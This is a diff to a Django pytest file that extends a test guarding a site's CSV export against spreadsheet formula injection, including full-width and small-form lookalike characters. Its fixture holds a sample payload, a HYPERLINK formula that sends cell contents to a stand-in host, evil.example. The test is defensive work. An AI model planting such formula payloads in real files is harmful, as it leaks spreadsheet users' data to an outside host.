@@ -4,6 +4,7 @@ import csv
 import io
 import json
 import math
+import unicodedata
 
 import pytest
 from django.db import connection
@@ -74,7 +75,10 @@ def test_csv_columns_say_what_the_page_says(client, seeded, reader):
     assert rows["trump-vow-millions"]["made"] == ""
 
 
-@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+# A newline, and the full-width and small forms spreadsheets read as =, +, - and @, too.
+@pytest.mark.parametrize(
+    "start", ["=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20", "\ufe66"]
+)
 def test_csv_cells_never_start_a_formula(client, reader, start):
     f.ClaimFactory(slug="formula", text=f'{start}HYPERLINK("http://evil.example/?"&A1,"click")')
     f.AttributionFactory(
@@ -87,6 +91,7 @@ def test_csv_cells_never_start_a_formula(client, reader, start):
     (row,) = csv_rows(client.get(URL, {"format": "csv"}))
     assert row["text"] == f'\'{start}HYPERLINK("http://evil.example/?"&A1,"click")'
     for column, value in row.items():
+        assert not unicodedata.normalize("NFKC", value[:1]).startswith(("=", "+", "-", "@", "\t", "\r", "\n"))
         assert not value.startswith(explorer.FORMULA_STARTS), column
     assert "-2+3" in row["lines"]  # inside a cell, text stays as it was
 
